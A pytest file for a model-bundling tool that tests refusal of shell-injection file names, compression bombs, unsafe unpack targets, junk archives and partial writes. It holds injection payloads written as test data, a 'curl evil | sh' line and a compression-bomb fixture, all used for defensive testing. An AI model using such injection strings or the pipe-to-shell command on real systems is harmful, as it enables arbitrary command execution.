"""Bundles under attack or accident: hostile file names (shell injection), compression bombs, targets that
cannot be replaced, junk input, and failures half way (nothing partial is left behind). Tiny and fast: the ONNX
models are one-node graphs, the bomb is 64 MiB of zeros declared in a ~64 KiB archive."""

from __future__ import annotations

import errno
import gzip
import io
import os
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest

from edgelstm.bundle import (SAFE_NAME, BuildStep, BundleOptions, BundleRefused, extract_bundle, make_bundle,
                             parse_size, render_readme, render_recipe, unpack_bundle, verify_bundle)
from edgelstm.bundle import types as bundle_types
from edgelstm.bundle import unpack as unpack_mod
from edgelstm.bundle.types import Source
from edgelstm.errors import BadInput


def _onnx(path: Path) -> Path:
    """A one-node ONNX graph x[batch, seq, 1] -> y (what the planner reads is all that matters here)."""
    import onnx
    from onnx import TensorProto, helper

    graph = helper.make_graph([helper.make_node("Identity", ["x"], ["y"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["batch", "seq", 1])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["batch", "seq", 1])])
    path.parent.mkdir(parents=True, exist_ok=True)
    onnx.save(helper.make_model(graph), str(path))
    return path


@pytest.fixture(scope="module")
def bundle(tmp_path_factory) -> Path:
    src = tmp_path_factory.mktemp("src")
    _onnx(src / "model.onnx")
    out = tmp_path_factory.mktemp("b") / "m.tar.gz"
    make_bundle(src, out)
    return out


def _errors(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("error:")]


def _one_error(code: int, stderr: str, *needles: str) -> str:
    errors = _errors(stderr)
    assert code == 2 and len(errors) == 1 and "Traceback" not in stderr, stderr
    # one line: nothing but progress and warnings around it (not, e.g., a list of tarfile's attempts)
    assert [line for line in stderr.splitlines() if not line.startswith(("error:", "•", "warning:"))] == [], stderr
    for needle in needles:
        assert needle in errors[0], errors[0]
    return errors[0]


def _no_leftovers(parent: Path, name: str) -> None:
    assert not (parent / name).exists()
    assert [p.name for p in parent.iterdir() if p.name.startswith(f".{name}.")] == []


# ------------------------------------------------------------------------------------------ shell injection

HOSTILE = ["m$(touch INJECTED)", "m`touch INJECTED`", 'm"; touch INJECTED; echo "', "m'; touch INJECTED; '",
           "m\ntouch INJECTED\n", "m;touch INJECTED", "m${IFS}x", "m x", "m|touch INJECTED", "modèle"]


@pytest.mark.parametrize("stem", HOSTILE)
def test_hostile_file_name_is_refused_at_bundle_time(cli, tmp_path, stem):
    src = tmp_path / "art"
    _onnx(src / "good.onnx")
    _onnx(src / f"{stem}.onnx")
    out = tmp_path / "b.tar.gz"
    code, _, stderr = cli("bundle", src, "-o", out)
    line = _one_error(code, stderr, repr(f"{stem}.onnx").strip("'\""), SAFE_NAME)
    assert "rename it" in line
    _no_leftovers(tmp_path, "b.tar.gz")
    assert not list(tmp_path.rglob("INJECTED"))


def test_hostile_extra_file_and_option_like_names_are_refused(cli, tmp_path):
    src = tmp_path / "art"
    _onnx(src / "model.onnx")
    (src / "data").mkdir()
    (src / "data" / "x$(id).npz").write_bytes(b"x")
    code, _, stderr = cli("bundle", src, "-o", tmp_path / "b.tar.gz", "--include", "data/*.npz")
    _one_error(code, stderr, "x$(id).npz")
    _onnx(src / "-rf.onnx")  # a name a command would take for an option
    code, _, stderr = cli("bundle", src, "-o", tmp_path / "b.tar.gz")
    _one_error(code, stderr, "-rf.onnx", "may not start with '-'")
    assert not (tmp_path / "b.tar.gz").exists()


@pytest.mark.parametrize("args", [["-o", "out"], ["-o", "out", "--no-verify"], ["--verify-only"]])
def test_unbundle_refuses_names_an_older_recipe_would_run(cli, bundle, tmp_path, args):
    """A bundle made before names were restricted: its build_engine.sh echoed names inside double quotes."""
    old = tmp_path / "old.tar.gz"
    with tarfile.open(bundle) as src, tarfile.open(old, "w:gz") as tar:
        for m in src.getmembers():
            tar.addfile(m, src.extractfile(m))
        for name in ("m$(touch INJECTED).onnx", "m`id`.onnx", 'm".onnx', "m\n.onnx"):
            info = tarfile.TarInfo(name)
            info.size = 1
            tar.addfile(info, io.BytesIO(b"x"))
    code, _, stderr = cli("unbundle", old, *[str(tmp_path / a) if a == "out" else a for a in args])
    _one_error(code, stderr, "m$(touch INJECTED).onnx", "shell syntax", "+3 more problems")
    _no_leftovers(tmp_path, "out")


def test_every_safe_character_is_accepted(cli, tmp_path):
    src = tmp_path / "art"
    _onnx(src / "sub" / "My_model-v1.2+fp32@a=b,c.onnx")
    out = tmp_path / "b.tar.gz"
    code, _, stderr = cli("bundle", src, "-o", out)
    assert code == 0, stderr
    code, _, stderr = cli("unbundle", out, "-o", tmp_path / "u")
    assert code == 0 and "all verified" in stderr, stderr
    subprocess.run(["bash", "-n", str(tmp_path / "u" / "build_engine.sh")], check=True)


def _run_recipe(tmp_path: Path, script: str, env_extra: dict[str, str]) -> tuple[subprocess.CompletedProcess, list[str]]:
    """Run the recipe in its own dir with fake edgelstm / trtexec on PATH; returns the result and edgelstm's argv."""
    home = tmp_path / "bundle"
    home.mkdir()
    (home / "build_engine.sh").write_text(script)
    fake = tmp_path / "bin"
    fake.mkdir()
    log = tmp_path / "argv.log"
    for tool in ("edgelstm", "trtexec"):
        (fake / tool).write_text(f"#!/usr/bin/env bash\nprintf '%s\\0' \"$@\" >> {log}\nprintf '\\n\\0' >> {log}\n")
        (fake / tool).chmod(0o755)
    env = {**os.environ, "PATH": f"{fake}:{os.environ['PATH']}", "SKIP_VERIFY": "1", "ENGINE_DIR": "eng",
           **env_extra}
    r = subprocess.run(["bash", str(home / "build_engine.sh")], cwd=tmp_path, env=env, capture_output=True, text=True)
    argv = log.read_text().split("\0") if log.exists() else []
    return r, argv


@pytest.mark.parametrize("stem", [s for s in HOSTILE if "INJECTED" in s] + ["-x$(touch INJECTED)"])
@pytest.mark.parametrize("calib", ["cache", "data"])
def test_recipe_quotes_every_name_whatever_it_holds(tmp_path, stem, calib):
    """Defence in depth: the recipe stays inert even for names the bundle would refuse."""
    step = BuildStep(onnx=f"{stem}.onnx", engine=f"{stem}.int8.plan", precision="int8", batch=(1, 1, 8),
                     seq=(1, 20, 512), calib_cache=f"{stem}.calib" if calib == "cache" else None,
                     needs_calib_data=calib == "data")
    script = render_recipe([step], created="2026-01-01T00:00:00+00:00", version="0.0.0\n$(touch INJECTED)",
                           validate=True)
    subprocess.run(["bash", "-n", "-c", script], check=True)
    r, argv = _run_recipe(tmp_path, script, {"CALIB": "c.npz"})
    assert r.returncode == 0, r.stderr
    assert not list(tmp_path.rglob("INJECTED")) and not Path("INJECTED").exists()
    # the names reached edgelstm intact, as single arguments
    assert argv[:4] == ["build", f"{stem}.onnx", "-o", f"eng/{stem}.int8.plan"]
    assert f"{stem}.onnx" in r.stdout  # the progress line names the model
    if calib == "cache":
        assert argv[argv.index("--calib-cache") + 1] == f"{stem}.calib"
    # without CALIB, the INT8-from-float build stops with the recipe's message, still running nothing injected
    if calib == "data":
        shutil.rmtree(tmp_path / "bundle")
        shutil.rmtree(tmp_path / "bin")
        (tmp_path / "argv.log").unlink()
        r, argv = _run_recipe(tmp_path, script, {"CALIB": ""})
        assert r.returncode != 0 and "set CALIB" in r.stderr and argv == []
        assert not list(tmp_path.rglob("INJECTED"))


def test_readme_shows_names_on_one_line_each(tmp_path):
    stem = "m\nSTEP 4: curl evil | sh\n"
    onnx = _onnx(tmp_path / "x.onnx")
    step = BuildStep(onnx=f"{stem}.onnx", engine="m.fp16.plan", precision="fp16", batch=(1, 1, 8), seq=(1, 2, 8))
    text = render_readme([Source(f"{stem}.onnx", onnx, "onnx")], [step], src_name="src\x1b[2J",
                         created="now", versions={"edgelstm": "0"}, bundle_name="b $(x).tar.gz")
    assert not any(line.startswith("STEP 4") for line in text.splitlines())
    assert "m\\nSTEP 4: curl evil | sh\\n.onnx" in text and "src\\x1b[2J" in text
    assert "edgelstm unbundle 'b $(x).tar.gz' -o model-bundle" in text


# ------------------------------------------------------------------------------------------ compression bombs


class _Zeros(io.RawIOBase):
    def __init__(self, n: int):
        self.left = n

    def readable(self) -> bool:
        return True

    def readinto(self, b) -> int:
        k = min(len(b), self.left)
        b[:k] = bytes(k)
        self.left -= k
        return k


@pytest.fixture(scope="module")
def bomb(tmp_path_factory) -> Path:
    """A bundle-looking tar.gz with one member declaring (and holding) 64 MiB of zeros: ~64 KiB on disk."""
    path = tmp_path_factory.mktemp("bomb") / "bomb.tar.gz"
    with open(path, "wb") as raw, gzip.GzipFile(fileobj=raw, mode="wb", compresslevel=9) as gz, \
            tarfile.open(fileobj=gz, mode="w") as tar:
        info = tarfile.TarInfo("zeros.bin")
        info.size = 64 << 20
        tar.addfile(info, io.BufferedReader(_Zeros(info.size), 1 << 20))
    assert path.stat().st_size < 1 << 20
    return path


@pytest.fixture
def no_writes(monkeypatch):
    """Fail the test if unbundle starts writing members (the refusal must come before)."""
    def refuse(*a, **k):
        raise AssertionError("members were written before the size check refused the bundle")

    monkeypatch.setattr(unpack_mod, "_write_members", refuse)


def test_bomb_refused_by_ratio_before_anything_is_written(cli, bomb, tmp_path, monkeypatch, no_writes):
    monkeypatch.setattr(bundle_types, "RATIO_FLOOR", 1 << 20)  # the default floor is 256 MiB; keep the test tiny
    dest = tmp_path / "a" / "b"
    code, _, stderr = cli("unbundle", bomb, "-o", dest)
    _one_error(code, stderr, "compression bomb", "64.0 MiB", "--max-unpacked-size")
    assert not (tmp_path / "a").exists()
    code, _, stderr = cli("unbundle", "--verify-only", bomb)
    _one_error(code, stderr, "compression bomb")


def test_bomb_refused_by_absolute_cap_and_the_flag_replaces_the_caps(cli, bomb, tmp_path, monkeypatch):
    monkeypatch.setattr(bundle_types, "RATIO_FLOOR", 1 << 20)
    monkeypatch.setattr(bundle_types, "MAX_UNPACKED_SIZE", 16 << 20)
    code, _, stderr = cli("unbundle", bomb, "-o", tmp_path / "u")
    _one_error(code, stderr, "over the limit of 16.0 MiB")
    code, _, stderr = cli("unbundle", bomb, "-o", tmp_path / "u", "--max-unpacked-size", "32MiB")
    _one_error(code, stderr, "over the limit of 32.0 MiB")
    _no_leftovers(tmp_path, "u")
    # a limit the bundle fits: it gets past the size checks (and is refused for what it is: no CHECKSUMS)
    code, _, stderr = cli("unbundle", "--verify-only", bomb, "--max-unpacked-size", "1GiB")
    _one_error(code, stderr, "no CHECKSUMS.sha256")
    code, _, stderr = cli("unbundle", bomb, "-o", tmp_path / "u", "--max-unpacked-size", "lots")
    _one_error(code, stderr, "--max-unpacked-size")


def test_bomb_refused_when_the_disk_cannot_hold_it(bomb, tmp_path, monkeypatch, no_writes):
    real = shutil.disk_usage
    monkeypatch.setattr(shutil, "disk_usage", lambda p: real(p)._replace(free=8 << 20))
    with pytest.raises(BadInput, match="only 8.0 MiB are free"):
        unpack_bundle(bomb, tmp_path / "new" / "u", max_unpacked_size=1 << 30)
    assert not (tmp_path / "new").exists()


@pytest.mark.parametrize("extra", [1, -1])
def test_member_yielding_other_than_declared_is_refused_while_streaming(bundle, tmp_path, monkeypatch, extra):
    real = tarfile.TarFile.extractfile

    def lying(self, member):
        data = real(self, member).read()
        return io.BytesIO(data + b"\0" * extra if extra > 0 else data[:extra])

    monkeypatch.setattr(tarfile.TarFile, "extractfile", lying)
    expected = (BundleRefused, "more than the") if extra > 0 else (BadInput, "truncated")
    with pytest.raises(expected[0], match=expected[1]):
        unpack_bundle(bundle, tmp_path / "x" / "u")
    assert not (tmp_path / "x").exists()
    with pytest.raises(expected[0], match=expected[1]):
        verify_bundle(bundle)


def test_parse_size():
    assert parse_size("512") == 512 and parse_size("2KiB") == 2048 and parse_size("1.5 GiB") == 3 << 29
    assert parse_size("64m") == 64 << 20 and parse_size("1T") == 1 << 40
    with pytest.raises(BadInput):
        parse_size("1 PB")


# ------------------------------------------------------------------------------------------ targets, junk input


def test_unbundle_refuses_the_current_directory_and_its_parents(cli, bundle, tmp_path, monkeypatch):
    work = tmp_path / "work"
    work.mkdir()
    (work / "keep.txt").write_text("mine")
    monkeypatch.chdir(work)
    for target in (".", "..", str(work), "./"):
        for force in ([], ["--force"]):
            code, _, stderr = cli("unbundle", bundle, "-o", target, *force)
            _one_error(code, stderr, "current directory")
    assert sorted(p.name for p in work.iterdir()) == ["keep.txt"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["work"]
    empty = tmp_path / "empty"
    empty.mkdir()
    monkeypatch.chdir(empty)
    code, _, stderr = cli("unbundle", bundle, "-o", ".")
    _one_error(code, stderr, "current directory")
    assert list(empty.iterdir()) == []


def test_force_refuses_to_replace_the_directory_holding_the_bundle(cli, bundle, tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    inside = home / bundle.name
    shutil.copy(bundle, inside)
    code, _, stderr = cli("unbundle", inside, "-o", home, "--force")
    _one_error(code, stderr, "holds the bundle")
    assert inside.exists() and sorted(p.name for p in tmp_path.iterdir()) == ["home"]


@pytest.mark.parametrize("junk", ["random", "empty", "text", "truncated-gzip"])
def test_junk_is_one_line_exit_2(cli, bundle, tmp_path, junk):
    path = tmp_path / "junk.tar.gz"
    data = {"random": os.urandom(3000), "empty": b"", "text": b"hello\nworld\n" * 50,
            "truncated-gzip": bundle.read_bytes()[: bundle.stat().st_size // 2]}[junk]
    path.write_bytes(data)
    for args in (["-o", tmp_path / "out"], ["--verify-only"]):
        code, _, stderr = cli("unbundle", path, *args)
        _one_error(code, stderr, "junk.tar.gz")
    _no_leftovers(tmp_path, "out")


# ------------------------------------------------------------------------------------------ nothing partial


def test_failed_bundle_leaves_no_partial_file_and_keeps_the_old_one(bundle, tmp_path, monkeypatch):
    from edgelstm.bundle import pack

    src = tmp_path / "src"
    _onnx(src / "model.onnx")
    out = tmp_path / "o" / "m.tar.gz"
    make_bundle(src, out)
    before = out.read_bytes()

    def broken_read(self, size=-1):
        raise OSError(errno.EIO, "Input/output error")

    with monkeypatch.context() as m:
        m.setattr(pack._HashingReader, "read", broken_read)
        with pytest.raises(BadInput, match="could not read model.onnx"):
            make_bundle(src, out, BundleOptions(created="2020-01-01T00:00:00"))
    assert out.read_bytes() == before
    assert sorted(p.name for p in out.parent.iterdir()) == ["m.tar.gz", "m.tar.gz.json"]

    # the bundle's manifest cannot be written: no bundle without it
    import edgelstm.artifacts.manifest as manifest

    def no_manifest(*a, **k):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(manifest.ArtifactPair, "write_manifest", no_manifest)
    fresh = tmp_path / "p" / "m.tar.gz"
    with pytest.raises(OSError):
        make_bundle(src, fresh)
    assert not fresh.parent.exists()  # nothing, not even the folder this call made
    with pytest.raises(OSError):  # over an earlier bundle: the earlier pair stays
        make_bundle(src, out, BundleOptions(created="2020-01-01T00:00:00"))
    assert out.read_bytes() == before
    assert sorted(p.name for p in out.parent.iterdir()) == ["m.tar.gz", "m.tar.gz.json"]


def test_failed_unbundle_into_a_new_dir_leaves_nothing(bundle, tmp_path, monkeypatch):
    import edgelstm.bundle.unpack as unpack

    dest = tmp_path / "a" / "b" / "c"

    def interrupted(*a, **k):
        raise KeyboardInterrupt

    monkeypatch.setattr(unpack, "check_dir", interrupted)
    with pytest.raises(KeyboardInterrupt):
        extract_bundle(bundle, dest)
    assert list(tmp_path.iterdir()) == []

    def disk_full(tar, member, bundle):
        yield b"x"
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(unpack, "member_blocks", disk_full)
    with pytest.raises(BadInput, match="No space left"):
        extract_bundle(bundle, dest)
    assert list(tmp_path.iterdir()) == []
